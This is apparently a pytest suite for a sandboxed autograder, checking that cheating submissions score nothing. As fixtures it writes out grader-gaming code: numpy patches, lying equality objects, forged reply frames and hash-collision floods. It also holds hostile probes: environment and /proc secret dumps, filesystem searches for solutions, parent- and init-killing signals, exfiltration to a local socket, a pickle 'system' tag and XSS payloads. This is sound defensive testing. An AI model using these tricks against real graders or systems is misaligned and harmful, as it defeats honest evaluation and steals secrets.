"""Submissions that try to cheat, graded in one sandboxed batch: none may gain a point.

Each cheater replaces `l1_norm` by its trick (its honest version would earn 4 points) and
keeps the other functions honest, so the grader is seen working while the trick earns 0.
Paths, the port and the secret are filled in per run (`@@NAME@@` placeholders).
"""

import json
import os
import re
import secrets
import socket

import pytest
from support.sandboxed import FUNCTIONS, HONEST, earned, outputs

from autograder.course.assignments import ROOT

pytestmark = pytest.mark.slow
SECRET_NAME = "AIMATH_GRADER_SECRET"


def cheating(body: str, prelude: str = "") -> str:
    """HONEST with `l1_norm` replaced by one whose body is `body`."""
    return prelude + HONEST + "\n\ndef l1_norm(x):\n" + \
        "".join(f"    {line}\n" for line in body.strip().splitlines())


def reporting(probe: str) -> str:
    """A cheater that runs `probe` at import and reports what it `found` through l1_norm's
    error; "probed" at the end shows the probe ran to completion."""
    body = "".join(f"    {line}\n" for line in probe.strip().splitlines())
    return cheating("raise ValueError('FOUND ' + json.dumps(found))",
                    "import json, os, sys\n\ndef probe():\n    found = []\n" + body +
                    "    return found\n\nfound = [*probe(), 'probed']\n")


PATCH_NUMPY = """
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
"""

LIARS = """
import numpy as np

class AlwaysEqual:
    def __eq__(self, other):
        return True
    __hash__ = None

class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *args, **kwargs):
        return 0.0

class LyingFloat(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
"""

FORGE = """
import json, os, struct

def forge(message, buffers=()):
    head = json.dumps(message).encode()
    frame = struct.pack("!QI", len(head), len(buffers)) + head
    frame += b"".join(struct.pack("!Q", len(b)) + b for b in buffers)
    os.write(4, struct.pack("!Q", len(frame)) + frame)
"""

OBJECT_ARRAY = {"ok": True, "value": [{"__nd__": 0, "dtype": "|O", "shape": [1]}, None]}

COLLIDING_KEYS = """
keys = [i * (2**61 - 1) for i in range(20000)]  # one hash: a dict of them is built in O(n^2)
forge({"ok": True, "value": [{"__dict__": [[k, 0] for k in keys]}, None]})
return -1.0
"""

READ_FD3 = """
import os, threading
threading.Thread(target=lambda: os.read(3, 1 << 20), daemon=True).start()
return -1.0
"""

PROBE_FILES = """
for path in @@PATHS@@:
    try:
        found.append([path, os.listdir(path) if os.path.isdir(path) else open(path).read(80)])
    except OSError:
        pass
for folder, _, files in os.walk(sys.prefix):
    found += [os.path.join(folder, f) for f in files
              if f in ("test_l1_norm.py", "vectors.py", "honest.py", "results.json")]
"""

IMPORTS = """
import importlib
for name in ("reference", "reference.vectors", "autograder.suites",
             "autograder.suites.01_vectors.test_l1_norm", "autograder.quizbank"):
    try:
        found.append([name, str(importlib.import_module(name))])
    except Exception as exc:
        pass
found += [m for m in sys.modules if m.startswith(("reference", "autograder.suites"))]
"""

FORGE_RESULTS = """
for path, text in ((@@OUT@@ + "/forger/results.json", '{"score": 22, "max_score": 22}'),
                   (@@OUT@@ + "/evil.txt", "x")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(text)
    except OSError:
        pass
"""

ENVIRONMENT = """
found.append(dict(os.environ))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
    try:
        found.append(open(path).read())
    except OSError as exc:
        pass
"""

KILLERS = """
import os, signal
for attempt in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(-1, 9),
                lambda: os.killpg(0, 9), lambda: os.kill(1, 9)):
    try:
        attempt()
    except OSError:
        pass
"""

NETWORK = """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(0.5)
        s.connect(("127.0.0.1", @@PORT@@))
        s.sendall(b"exfiltrated")
        found.append(kind)
    except OSError:
        pass
"""

TMP_WRITER = """
with open("/tmp/answers.py", "w") as note:
    note.write("def l1_norm(x):\\n    return float(abs(x).sum())\\n")
"""

TMP_READER = """
try:
    exec(open("/tmp/answers.py").read())
except OSError:
    def l1_norm(x):
        raise ValueError("no answers in /tmp")
"""

CHEATERS = {
    "patches_numpy": cheating("return -1.0", PATCH_NUMPY),
    "always_equal": cheating("return AlwaysEqual()", LIARS),
    "ndarray_subclass": cheating("return np.array([-1.0]).view(LyingArray)", LIARS),
    "float_subclass": cheating("return LyingFloat(-1.0)", LIARS),
    "returns_generator": cheating("return (v for v in x)"),
    "returns_lambda": cheating("return lambda *a: 10.0"),
    "returns_custom_class": cheating("return type('Answer', (), {'__float__': lambda s: 10.0})()"),
    "garbage_on_reply_channel": cheating("import os\nos.write(4, b'\\0' * 8 + b'garbage' * 9)\n"
                                         "return -1.0"),
    "forged_object_array": cheating(f"forge({OBJECT_ARRAY!r}, [b'x' * 8])\nreturn -1.0", FORGE),
    "forged_colliding_keys": cheating(COLLIDING_KEYS, FORGE),
    "forged_unknown_tag": cheating("forge({'ok': True, 'value': {'__pickle__': 'cos\\nsystem'}})"
                                   "\nreturn -1.0", FORGE),
    "reads_request_channel": cheating(READ_FD3),
    "walks_filesystem": reporting(PROBE_FILES),
    "imports_reference": reporting(IMPORTS),
    "forger": reporting(FORGE_RESULTS),
    "smuggles_environment": reporting(ENVIRONMENT),
    "kills_parent": reporting(KILLERS),
    "network": reporting(NETWORK),
    "injects_html": cheating("raise ValueError('<script>alert(1)</script>')",
                             "print('<img src=x onerror=alert(2)>')\n"),
    "tmp_writer": TMP_WRITER + HONEST,
    "tmp_reader": HONEST.replace("def l1_norm", "def _unused") + TMP_READER,
}


def _probe_paths(root) -> list[str]:
    """Everything secret a cheater could look for, on this machine and in this batch."""
    return [str(p) for p in (ROOT / "autograder" / "suites" / "01_vectors" / "test_l1_norm.py",
                             ROOT / "autograder" / "suites", ROOT / "reference" / "vectors.py",
                             ROOT / "solutions", ROOT / "autograder" / "quizbank", ROOT,
                             root / "submissions" / "honest.py", root / "submissions",
                             root / "out", root / "out" / "honest" / "results.json")]


@pytest.fixture(scope="module")
def listener():
    """A TCP and a UDP socket on 127.0.0.1 that a cheater may try to reach."""
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    udp.bind(("127.0.0.1", tcp.getsockname()[1]))
    for sock in (tcp, udp):
        sock.setblocking(False)
    yield tcp, udp
    tcp.close()
    udp.close()


@pytest.fixture(scope="module")
def batch(grade_sources, listener, tmp_path_factory):
    """Every cheater and, last, an honest student; the grader's env holds a secret."""
    secret = secrets.token_hex(16)
    root = tmp_path_factory.mktemp("cheating")
    fill = {"@@PATHS@@": repr(_probe_paths(root)), "@@OUT@@": repr(str(root / "out")),
            "@@PORT@@": str(listener[0].getsockname()[1])}
    sources = {}
    for student, code in CHEATERS.items():
        for key, value in fill.items():
            code = code.replace(key, value)
        sources[f"{student}.py"] = code
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(SECRET_NAME, secret)
        batch = grade_sources({**sources, "honest.py": HONEST}, root=root, timeout=2.0)
    return batch, secret


def _found(results: dict) -> list:
    text = outputs(results, "l1_norm")[0]
    match = re.search(r"FOUND (.*)", text)
    assert match, text
    return json.loads(match.group(1))


def test_an_honest_student_graded_after_the_cheaters_gets_full_marks(batch):
    """Did the grader survive every cheater and still grade the last student right?"""
    results = batch[0].results
    assert results["honest"]["score"] == results["honest"]["max_score"] > 0
    assert set(results) == {*CHEATERS, "honest"}


@pytest.mark.parametrize("student", sorted(set(CHEATERS) - {"tmp_writer"}))
def test_the_trick_earns_nothing(batch, student):
    """Does the cheated function score 0 while the honest ones keep their points?"""
    results = batch[0].results[student]
    assert earned(results, "l1_norm")[0] == 0, outputs(results, "l1_norm")
    if student != "reads_request_channel":  # stealing requests may also stall honest calls
        for function in set(FUNCTIONS) - {"l1_norm"}:
            score, total = earned(results, function)
            assert score == total, (student, function, outputs(results, function))


def test_objects_that_lie_are_refused_by_name(batch):
    """Is a returned object that claims equality refused as not plain data?"""
    results = batch[0].results
    expected = {"always_equal": "AlwaysEqual", "returns_generator": "generator",
                "returns_lambda": "function"}
    for student, kind in expected.items():
        message = outputs(results[student], "l1_norm")[0]
        assert f"returned a value of type {kind}, expected plain data" in message


def test_a_reply_built_to_be_slow_to_read_is_refused(batch):
    """Is a forged reply whose 20,000 keys share one hash (2.7-2.9 s of the grader's CPU to
    build as a dict) refused before it is built, and said so?"""
    message = outputs(batch[0].results["forged_colliding_keys"], "l1_norm")[0]
    assert "too many keys share a hash" in message


@pytest.mark.parametrize("student", ["walks_filesystem", "imports_reference", "network"])
def test_nothing_was_reached(batch, student):
    """Could the cheater read, import or connect to anything secret? (It reports all it
    reached in its error message.)"""
    assert _found(batch[0].results[student]) == ["probed"]


def test_no_connection_reached_the_listener(listener, batch):
    """Did no TCP connection and no UDP datagram arrive from a student?"""
    tcp, udp = listener
    with pytest.raises(BlockingIOError):
        tcp.accept()
    with pytest.raises(BlockingIOError):
        udp.recv(100)


def test_the_output_folder_is_the_graders_alone(batch):
    """Is the forger's results.json the grader's, and was nothing else written there?"""
    results = batch[0].results["forger"]
    assert results["extra_data"]["status"] == "graded"
    assert results["score"] < results["max_score"]
    assert not (batch[0].out / "evil.txt").exists()


def test_the_graders_environment_never_reaches_a_student(batch):
    """Does the secret in the grader's environment appear in no result, feedback or log?"""
    batch, secret = batch
    smuggled = _found(batch.results["smuggles_environment"])
    assert smuggled[-1] == "probed" and set(smuggled[0]) <= {"PATH", "HOME", "TMPDIR", "LANG",
                                             "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
                                             "MKL_NUM_THREADS"}
    written = [p.read_text() for p in batch.out.rglob("*") if p.is_file()]
    assert written and not any(secret in text for text in [*written, batch.log])


def test_each_student_has_a_private_tmp(batch):
    """Can a student read what an earlier student left in /tmp? (It must not: and the note
    must not land in the machine's /tmp either.)"""
    results = batch[0].results
    assert results["tmp_writer"]["score"] == results["tmp_writer"]["max_score"]
    assert "no answers in /tmp" in outputs(results["tmp_reader"], "l1_norm")[0]
    assert not os.path.exists("/tmp/answers.py")


def test_student_text_is_escaped_in_feedback(batch):
    """Do markup in an error message and in printed output reach feedback.html escaped?"""
    page = (batch[0].out / "injects_html" / "feedback.html").read_text()
    assert "alert(1)" in page and "alert(2)" in page
    assert "<script>alert" not in page and "<img src=x" not in page
